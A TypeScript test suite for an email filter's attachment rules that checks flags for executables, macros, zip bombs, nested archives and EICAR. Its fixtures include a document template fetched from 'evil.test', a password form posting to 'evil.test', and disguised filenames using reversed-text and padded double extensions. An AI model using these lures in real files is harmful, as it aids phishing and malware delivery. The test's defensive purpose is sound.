import { parseMail } from '@waypost/mime';
import { checkAttachments, collect } from '@waypost/spam';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { EICAR } from '../../support/filters.js';
import { zip } from '../../support/zip.js';

function withFile(name: string, content: Buffer | string, type = 'application/octet-stream') {
  const base64 = Buffer.from(content).toString('base64').replace(/.{76}/g, '$&\r\n');
  return Buffer.from(
    [
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=b',
      '',
      '--b',
      'Content-Type: text/plain',
      '',
      'see the file',
      '--b',
      `Content-Type: ${type}`,
      `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(name)}`,
      'Content-Transfer-Encoding: base64',
      '',
      base64,
      '--b--',
      '',
    ].join('\r\n'),
  );
}

function symbolsOf(message: Buffer): string[] {
  const { report, found } = collect();
  checkAttachments(parseMail(message), report);
  return found().map(({ symbol }) => symbol);
}

const PROGRAM = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(58),
  Buffer.from([0x40, 0, 0, 0]),
  Buffer.from('PE\0\0'),
]);
/** A directory entry of an OLE2 document: 64 octets of name, its length, and the rest. */
function ole(stream: string): Buffer {
  const entry = Buffer.alloc(128);
  entry.write(stream, 'utf16le');
  entry.writeUInt16LE(stream.length * 2 + 2, 64);
  return Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1016), entry]);
}

const REMOTE = zip([
  { name: '[Content_Types].xml', content: '<x/>' },
  {
    name: 'word/_rels/settings.xml.rels',
    content:
      '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.test/t.dotm" TargetMode="External"/></Relationships>',
  },
]);

describe('attachment rules', () => {
  it.each<[string, string, Buffer | string, string[]]>([
    ['a picture', 'cat.png', Buffer.from('\x89PNG\r\n\x1a\n....', 'latin1'), []],
    ['a text that begins like a program', 'notes.txt', 'MZ is how programs begin', []],
    ['a program', 'setup.exe', PROGRAM, ['ATTACH_EXECUTABLE']],
    ['a program named a picture', 'cat.jpg', PROGRAM, ['ATTACH_EXECUTABLE_HIDDEN']],
    ['a script', 'run.js', 'alert(1)', ['ATTACH_SCRIPT']],
    ['a double extension', 'invoice.pdf.exe', 'x', ['ATTACH_EXECUTABLE', 'ATTACH_DOUBLE_EXTENSION']],
    ['a name that turns around', 'invoice_\u202efdp.exe', 'x', ['ATTACH_EXECUTABLE', 'ATTACH_REVERSED_NAME']],
    [
      'blanks before the extension',
      'invoice.pdf           .scr',
      'x',
      ['ATTACH_EXECUTABLE', 'ATTACH_DOUBLE_EXTENSION', 'ATTACH_PADDED_NAME'],
    ],
    ['a dot at the end', 'tool.exe.', 'x', ['ATTACH_EXECUTABLE']],
    ['a disk image', 'backup.iso', 'x', ['ATTACH_DISK_IMAGE']],
    ['an old document with macros', 'plan.doc', ole('_VBA_PROJECT'), ['ATTACH_MACRO']],
    ['an old document without', 'plan.doc', ole('WordDocument'), []],
    [
      'a document with macros',
      'plan.xlsx',
      zip([
        { name: '[Content_Types].xml', content: '<x/>' },
        { name: 'xl/vbaProject.bin', content: 'x' },
      ]),
      ['ATTACH_MACRO'],
    ],
    ['a document that is encrypted', 'plan.docx', ole('EncryptedPackage'), ['ATTACH_DOCUMENT_ENCRYPTED']],
    ['a document with a template elsewhere', 'plan.docx', REMOTE, ['ATTACH_REMOTE_TEMPLATE']],
    ['a PDF', 'plan.pdf', '%PDF-1.7\n1 0 obj <</Type /Catalog>>', []],
    [
      'a PDF with a script',
      'plan.pdf',
      '%PDF-1.7\n1 0 obj <</S /JavaScript /JS (app.alert(1))>>',
      ['ATTACH_PDF_ACTIVE'],
    ],
    ['an archive with wide sizes', 'all.zip', zip([{ name: 'a.txt', content: 'x', wide: true }]), []],
    ['a document without', 'plan.xlsx', zip([{ name: '[Content_Types].xml', content: '<x/>' }]), []],
    ['no document under the name of one', 'plan.docx', 'hello', ['ATTACH_TYPE_MISMATCH']],
    ['an archive', 'all.zip', zip([{ name: 'notes.txt', content: 'x' }]), []],
    [
      'a program in an archive',
      'all.zip',
      zip([{ name: 'a/run.exe', content: 'x' }]),
      ['ATTACH_EXECUTABLE', 'ATTACH_ARCHIVE_PROGRAM'],
    ],
    [
      'a program in an archive by content',
      'all.zip',
      zip([{ name: 'notes.txt', content: PROGRAM }]),
      ['ATTACH_ARCHIVE_PROGRAM'],
    ],
    [
      'a program two archives deep',
      'all.zip',
      zip([{ name: 'in.zip', content: zip([{ name: 'x.scr', content: 'x' }]) }]),
      ['ATTACH_EXECUTABLE', 'ATTACH_ARCHIVE_PROGRAM'],
    ],
    [
      'an encrypted archive',
      'all.zip',
      zip([{ name: 'notes.txt', content: 'x', encrypted: true }]),
      ['ATTACH_ARCHIVE_ENCRYPTED'],
    ],
    [
      'an archive that claims to be huge',
      'all.zip',
      zip([{ name: 'a.txt', content: 'x', claims: 4_000_000_000 }]),
      ['ATTACH_ARCHIVE_BOMB'],
    ],
    [
      'an archive that is larger than it claims',
      'all.zip',
      zip([{ name: 'a.txt', content: Buffer.alloc(3_000_000), claims: 10 }]),
      ['ATTACH_ARCHIVE_BOMB'],
    ],
    [
      'an archive cut off',
      'all.zip',
      zip([{ name: 'a.txt', content: 'x' }]).subarray(0, 40),
      ['ATTACH_ARCHIVE_BROKEN'],
    ],
    ['a page', 'offer.html', '<p>hello</p>', ['ATTACH_HTML']],
    [
      'a page that asks for a password',
      'login.htm',
      '<form action="https://evil.test/"><input type=password></form>',
      ['ATTACH_HTML_PASSWORD'],
    ],
    ['the virus test file', 'eicar.com', EICAR, ['EICAR', 'ATTACH_EXECUTABLE']],
    ['the virus test file in an archive', 'all.zip', zip([{ name: 'notes.txt', content: EICAR }]), ['EICAR']],
  ])('%s', (_, name, content, expected) => {
    expect(symbolsOf(withFile(name, content))).toEqual(expected);
  });

  it('go no deeper than three archives', () => {
    const deep = [1, 2, 3, 4].reduce(
      (inner) => zip([{ name: 'in.zip', content: inner }]),
      zip([{ name: 'a.exe', content: 'x' }]),
    );
    expect(symbolsOf(withFile('all.zip', deep))).toEqual(['ATTACH_ARCHIVE_NESTED']);
  });

  it('find the virus test file in the text of a message, and in base64 that nothing declares', () => {
    expect(symbolsOf(Buffer.from(`Subject: x\r\n\r\n${EICAR}\r\n`))).toEqual(['EICAR']);
  });

  it('throw at no archive', () => {
    const whole = zip([
      { name: 'a.txt', content: 'hello' },
      { name: 'b/c.zip', content: zip([{ name: 'd', content: 'x' }]) },
    ]);
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { maxLength: 8 }),
        fc.nat(whole.length),
        (changes, cut) => {
          const octets = Buffer.from(whole.subarray(0, whole.length - (cut % 30)));
          for (const [at, value] of changes) if (at < octets.length) octets[at] = value;
          symbolsOf(withFile('x.zip', octets));
        },
      ),
      { numRuns: 500 },
    );
  });
});
